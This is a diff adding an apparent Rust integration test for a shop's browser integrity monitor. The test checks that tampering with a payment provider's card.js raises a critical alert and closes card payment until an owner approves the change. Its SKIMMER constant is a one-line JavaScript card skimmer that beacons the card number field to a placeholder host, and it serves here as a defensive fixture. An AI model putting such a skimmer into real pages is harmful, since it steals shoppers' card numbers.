@@ -1,0 +1,199 @@
+//! The browser monitor against the real shop, the real sandbox provider and Debian's headless
+//! Chromium (notice 004): the provider's `card.js` altered at the "vendor" is seen within a few
+//! walks, raises `script.changed` naming the provider's page and `card.js`, and closes card
+//! payment; restoring the file does not reopen it; an owner's approval does, accepting the pages
+//! as they are. On both databases.
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
+
+mod common;
+
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+
+use common::{Backend, TestShop};
+use mamori_guard::files::{FileGuard, GuardKey, WatchSpec};
+use mamori_guard::monitor::{BrowserMonitor, MonitorConfig, ProviderProbe, Target};
+use mamori_guard::{kinds, AlertConfig, Alerts};
+use mamori_pay::url::Url;
+use mamori_pay::HttpConnector;
+use mamori_store::{alert_state, observation_state, switch_state, AlertFilter, AlertRow, Records};
+use mamori_testkit::both_backends;
+
+/// The provider's genuine helper, as the sandbox has it built in.
+const CARD_JS: &str = include_str!("../../mamori-pay/src/sandbox/card.js");
+
+/// What the attacker appended at the vendor: the card number posted elsewhere.
+const SKIMMER: &str = "document.addEventListener(\"submit\", function () { \
+    navigator.sendBeacon(\"https://skim.invalid/c\", document.getElementById(\"number\").value); });\n";
+
+const WAIT: Duration = Duration::from_secs(60);
+
+async fn wait_until<F, Fut>(what: &str, mut cond: F)
+where
+    F: FnMut() -> Fut,
+    Fut: std::future::Future<Output = bool>,
+{
+    let start = Instant::now();
+    while !cond().await {
+        assert!(start.elapsed() < WAIT, "timed out waiting for {what}");
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+async fn alerts_of(records: &Arc<dyn Records>, kind: &str) -> Vec<AlertRow> {
+    records
+        .alerts_page(
+            &AlertFilter {
+                state: None,
+                kind: Some(kind.into()),
+            },
+            0,
+            50,
+        )
+        .await
+        .unwrap()
+        .items
+}
+
+async fn card_payment(records: &Arc<dyn Records>) -> String {
+    records
+        .guard_switch(mamori_store::store::alerts::CARD_PAYMENT)
+        .await
+        .unwrap()
+        .map_or_else(|| switch_state::OPEN.to_owned(), |s| s.state)
+}
+
+async fn good_hash(records: &Arc<dyn Records>, page: &str, script: &str) -> Option<String> {
+    let row = records
+        .observation(page, observation_state::GOOD)
+        .await
+        .unwrap()?;
+    let scripts: serde_json::Value = serde_json::from_str(&row.scripts).unwrap();
+    scripts[script].as_str().map(str::to_owned)
+}
+
+async fn an_altered_vendor_script_closes_card_payment_until_approved(backend: Backend) {
+    let dir = tempfile::tempdir().unwrap();
+    let card_js = dir.path().join("card.js");
+    std::fs::write(&card_js, CARD_JS).unwrap();
+    let shop = TestShop::start_with(backend, Duration::ZERO, Some(dir.path().to_path_buf())).await;
+    let records = shop.store().clone();
+    let alerts = Alerts::new(
+        shop.gateway().clone(),
+        AlertConfig {
+            shop_name: "守り商店".into(),
+            backoffice_origin: None,
+            webhook: None,
+        },
+    );
+    let shop_url = Url::parse(&format!("{}/", shop.base_url)).unwrap();
+    let sandbox = Url::parse(&shop.sandbox_url).unwrap();
+    let provider_page = format!("{sandbox}pay/{{payment}}");
+    let script = sandbox.join("assets/card.js").unwrap().to_string();
+    let mut config = MonitorConfig::new(
+        Target::shop_pages(&shop_url, "/product/PT-1001"),
+        Some(ProviderProbe {
+            connector: Arc::new(HttpConnector::new(sandbox.clone(), shop.api_key.clone()).unwrap()),
+            return_url: shop_url.join("checkout/return").unwrap(),
+            cancel_url: shop_url.join("checkout/cancel").unwrap(),
+        }),
+    );
+    config.interval = Duration::from_secs(2);
+    config.chromium = mamori_e2e::chromium_path();
+    let monitor = Arc::new(BrowserMonitor::new(config, alerts.clone()));
+    let handle = monitor.spawn();
+
+    // The first walk records every page as known-good, the provider's with its card.js.
+    wait_until("the first observation of every page", || async {
+        let mut all = good_hash(&records, &provider_page, &script).await.is_some();
+        for page in ["/", "/product/PT-1001", "/cart", "/checkout"] {
+            all &= records
+                .observation(page, observation_state::GOOD)
+                .await
+                .unwrap()
+                .is_some();
+        }
+        all
+    })
+    .await;
+    let genuine = good_hash(&records, &provider_page, &script).await.unwrap();
+    assert!(genuine.starts_with("sha384-"), "an SRI hash: {genuine}");
+    assert_eq!(card_payment(&records).await, switch_state::OPEN);
+
+    // The vendor's file is altered, as in notice 004.
+    std::fs::write(&card_js, format!("{CARD_JS}{SKIMMER}")).unwrap();
+    wait_until("script.changed on the provider's page", || async {
+        !alerts_of(&records, kinds::SCRIPT_CHANGED).await.is_empty()
+    })
+    .await;
+    let changed = alerts_of(&records, kinds::SCRIPT_CHANGED).await;
+    assert_eq!(changed.len(), 1, "one alert for one change");
+    let alert = &changed[0];
+    assert_eq!(alert.subject, format!("page:{provider_page}"));
+    assert_eq!(alert.severity, "critical");
+    let evidence: serde_json::Value = serde_json::from_str(&alert.evidence).unwrap();
+    assert_eq!(evidence["script"], script.as_str());
+    assert!(evidence["script"].as_str().unwrap().ends_with("/card.js"));
+    assert_eq!(evidence["expected_sha384"], genuine.as_str());
+    let found = evidence["found_sha384"].as_str().unwrap();
+    assert!(found.starts_with("sha384-") && found != genuine);
+    assert_eq!(evidence["closes_card_payment"], true);
+    assert_eq!(card_payment(&records).await, switch_state::CLOSED);
+    // The shop's own pages did not change: nothing else was raised about them.
+    for kind in [
+        kinds::SCRIPT_ADDED,
+        kinds::SCRIPT_REMOVED,
+        kinds::FORM_ACTION,
+    ] {
+        let other = alerts_of(&records, kind).await;
+        assert!(other.is_empty(), "unexpected {kind}: {other:?}");
+    }
+
+    // Restoring the file does not reopen payment.
+    std::fs::write(&card_js, CARD_JS).unwrap();
+    wait_until("a walk that sees the restored file", || async {
+        records
+            .observation(&provider_page, observation_state::PENDING)
+            .await
+            .unwrap()
+            .is_none()
+    })
+    .await;
+    assert_eq!(card_payment(&records).await, switch_state::CLOSED);
+
+    // A legitimate update of the vendor's helper is approved by an owner: the page as it is
+    // becomes known-good, the monitor's alerts close and card payment reopens.
+    let update = format!("{CARD_JS}// v2\n");
+    std::fs::write(&card_js, &update).unwrap();
+    wait_until("the update pending", || async {
+        records
+            .observation(&provider_page, observation_state::PENDING)
+            .await
+            .unwrap()
+            .is_some()
+    })
+    .await;
+    let key = GuardKey::create(&dir.path().join("guard.key")).unwrap();
+    let guard = FileGuard::without_baseline(
+        WatchSpec::default(),
+        dir.path().join("guard-baseline.json"),
+        key,
+        alerts,
+    );
+    guard
+        .approve(
+            "owner-1",
+            "提供元の更新を確認しました（作業票 11）",
+            "req-1",
+        )
+        .await
+        .unwrap();
+    assert_eq!(card_payment(&records).await, switch_state::OPEN);
+    let closed = alerts_of(&records, kinds::SCRIPT_CHANGED).await;
+    assert!(closed.iter().all(|a| a.state == alert_state::CLOSED));
+    let approved = good_hash(&records, &provider_page, &script).await.unwrap();
+    assert_ne!(approved, genuine, "the update is the known-good state now");
+    drop(handle);
+}
+
+both_backends!(an_altered_vendor_script_closes_card_payment_until_approved);
